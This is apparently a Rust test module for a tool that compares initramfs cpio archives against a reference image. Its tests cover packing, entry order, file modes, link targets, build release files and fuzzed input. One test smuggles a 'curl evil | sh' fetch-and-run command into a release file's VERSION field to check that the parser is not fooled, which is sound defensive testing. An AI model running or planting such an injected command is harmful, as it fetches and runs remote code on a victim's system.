use std::io::Write as _;

use proptest::prelude::*;

use super::*;

/// Writes an archive of entries: name, mode, time, number, content.
fn archive(entries: &[(&str, u32, u32, u32, &[u8])]) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut add = |name: &str, mode: u32, time: u32, number: u32, content: &[u8]| {
        let fields = [
            number,
            mode,
            0,
            0,
            if mode & KIND == REGULAR { 2 } else { 1 },
            time,
            u32::try_from(content.len()).unwrap(),
            8,
            1,
            0,
            0,
            u32::try_from(name.len() + 1).unwrap(),
            0,
        ];
        bytes.extend_from_slice(b"070701");
        fields.iter().for_each(|field| bytes.extend(format!("{field:08X}").bytes()));
        bytes.extend_from_slice(name.as_bytes());
        bytes.push(0);
        bytes.resize(bytes.len().next_multiple_of(4), 0);
        bytes.extend_from_slice(content);
        bytes.resize(bytes.len().next_multiple_of(4), 0);
    };
    for (name, mode, time, number, content) in entries {
        add(name, *mode, *time, *number, content);
    }
    add("TRAILER!!!", 0, 0, 0, b"");
    bytes.resize(bytes.len() + 512, 0);
    bytes
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn look(ours: &[u8], theirs: &[u8]) -> Option<Said> {
    let folder = tempfile::tempdir().unwrap();
    let (staging, reference) = (folder.path().join("a"), folder.path().join("b"));
    std::fs::write(&staging, ours).unwrap();
    std::fs::write(&reference, theirs).unwrap();
    let files = Files {
        name: b"initramfs.img",
        shown: "initramfs.img",
        staging: &staging,
        reference: &reference,
        is_open: false,
    };
    read(&files).unwrap()
}

fn facts(ours: &[u8], theirs: &[u8]) -> Vec<Fact> {
    look(ours, theirs).unwrap().facts
}

fn release(build: &str) -> Vec<u8> {
    format!("ID=fedora\nVERSION=\"{build}\"\nVERSION_ID=45\n").into_bytes()
}

#[test]
fn times_order_and_packing_say_nothing() {
    let early = archive(&[("kernel/x86/microcode/GenuineIntel.bin", 0o100_644, 1, 1, b"code")]);
    let one =
        archive(&[(".", 0o040_755, 1, 1, b""), ("a", 0o100_644, 1, 2, b"a"), ("b", 0o120_777, 1, 3, b"a")]);
    let two =
        archive(&[("b", 0o120_777, 9, 7, b"a"), (".", 0o040_755, 9, 8, b""), ("a", 0o100_644, 9, 9, b"a")]);
    let ours = [early.as_slice(), &gzip(&one)].concat();
    let theirs = [early.as_slice(), &zstd::encode_all(two.as_slice(), 1).unwrap()].concat();
    let said = look(&ours, &theirs).unwrap();
    assert_eq!(said.facts, [Fact::SameArchive]);
    let detail = said.detail.unwrap();
    assert!(
        detail.contains("packed as plain, gzip, those of the reference image as plain, zstd"),
        "{detail}"
    );
    assert!(detail.contains("3 entries changed at another time"), "{detail}");
}

#[test]
fn order_counts_where_the_kernel_makes_something_of_it() {
    let file = |name, content: &'static [u8]| (name, 0o100_644, 1, u32::from(content[0]), content);
    let (folder, link) = (("d", 0o040_755, 1, 2, &b""[..]), ("l", 0o120_777, 1, 3, &b"d"[..]));
    let early = file("kernel/x86/microcode/GenuineIntel.bin", b"code");
    let (init, evil) = (file("init", b"good"), file("init", b"evil"));
    let join = |parts: &[&[u8]]| parts.concat();
    let pairs = [
        // The update for the processor is in the packed part, or behind it.
        (join(&[&archive(&[early]), &gzip(&archive(&[init]))]), gzip(&archive(&[early, init]))),
        (
            join(&[&archive(&[early]), &gzip(&archive(&[init]))]),
            join(&[&gzip(&archive(&[init])), &[0; 4], &archive(&[early])]),
        ),
        // A folder behind what is in it.
        (archive(&[folder, file("d/f", b"1")]), archive(&[file("d/f", b"1"), folder])),
        (archive(&[folder, link, file("l/f", b"1")]), archive(&[file("l/f", b"1"), folder, link])),
        // Of one name, the last counts.
        (archive(&[evil, init]), archive(&[file("init", b"else"), init])),
        (archive(&[init]), join(&[&archive(&[evil]), &archive(&[init])])),
        (archive(&[folder, file("d/f", b"1")]), archive(&[folder, file("d//f", b"2"), file("d/f", b"1")])),
    ];
    for (number, (ours, theirs)) in pairs.iter().enumerate() {
        assert_eq!(facts(ours, theirs), [], "{number}");
        assert_eq!(facts(theirs, ours), [], "{number}");
    }
    // The folders of both parts are the same ones, and the last says what they are.
    let (early, main) = (archive(&[folder, file("d/a", b"1")]), archive(&[folder, file("d/b", b"1")]));
    let packed = zstd::encode_all(main.as_slice(), 1).unwrap();
    assert_eq!(facts(&join(&[&early, &gzip(&main)]), &join(&[&early, &packed])), [Fact::SameArchive]);
    let open = archive(&[("d", 0o040_777, 1, 2, b""), file("d/b", b"1")]);
    assert_eq!(facts(&join(&[&early, &gzip(&main)]), &join(&[&early, &gzip(&open)])), []);
}

#[test]
fn files_of_several_names_have_their_content_with_the_last() {
    let first = archive(&[("a", 0o100_644, 1, 5, b""), ("b", 0o100_644, 1, 5, b"text")]);
    let last = archive(&[("b", 0o100_644, 1, 5, b""), ("a", 0o100_644, 1, 5, b"text")]);
    assert_eq!(facts(&first, &last), [Fact::SameArchive]);
}

#[test]
fn what_differs_is_told_by_name() {
    let ours = archive(&[
        ("etc/motd", 0o100_644, 1, 1, b"new\n"),
        ("only", 0o100_644, 1, 2, b""),
        ("init", 0o120_777, 1, 3, b"/a"),
        ("mode", 0o104_755, 1, 4, b""),
    ]);
    let theirs = archive(&[
        ("etc/motd", 0o100_644, 1, 1, b"old\n"),
        ("init", 0o120_777, 1, 3, b"/b"),
        ("mode", 0o100_755, 1, 4, b""),
    ]);
    let said = look(&ours, &theirs).unwrap();
    assert_eq!(said.facts, []);
    let detail = said.detail.unwrap();
    for line in [
        "4 of 4 entries differ",
        "    -old\n    +new",
        "only: only in",
        "init: link to /a, not /b",
        "4755, not 0755",
    ] {
        assert!(detail.contains(line), "{line}: {detail}");
    }
}

#[test]
fn an_image_may_be_of_another_build() {
    let image = |build: &str, other: &[u8]| {
        archive(&[
            ("usr/lib/initrd-release", 0o100_644, 1, 1, &release(build)),
            ("other", 0o100_644, 1, 2, other),
        ])
    };
    assert_eq!(facts(&image("1", b"a"), &image("2", b"a")), [Fact::ArchiveOfOtherBuild]);
    assert_eq!(facts(&image("1", b"a"), &image("2", b"b")), []);
    assert_eq!(facts(&image("1", b"a"), &image("2\"\ncurl evil | sh\nA=\"", b"a")), []);
}

#[test]
fn what_is_not_read_is_told() {
    let early = archive(&[("a", 0o100_644, 1, 1, b"a")]);
    let with = |rest: &[u8]| [early.as_slice(), rest].concat();
    let said = look(&with(b"\xfd7zXZ\0one"), &with(b"\xfd7zXZ\0two")).unwrap();
    assert_eq!(said.facts, []);
    assert!(said.detail.unwrap().contains("packed with xz, which is not read: it is not alike"));
    let said = look(&early[..120], &early).unwrap();
    assert!(said.facts.is_empty() && said.detail.unwrap().contains("it cannot be read as initramfs"));
    assert!(look(b"text", &early).is_none());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_an_image_or_none(
        changes in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..20),
        cut in any::<prop::sample::Index>(),
        is_packed in any::<bool>(),
    ) {
        let plain = archive(&[("a", 0o100_644, 1, 1, b"text\n"), ("b", 0o040_755, 1, 2, b"")]);
        let whole = if is_packed { gzip(&plain) } else { plain };
        let mut bytes = [whole.as_slice(), &whole].concat();
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        bytes.truncate(cut.index(bytes.len()) + 1);
        look(&bytes, &whole);
    }

    #[test]
    fn no_bytes_behind_the_magic_do_harm(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let bytes = [b"070701", bytes.as_slice()].concat();
        look(&bytes, &bytes);
    }
}
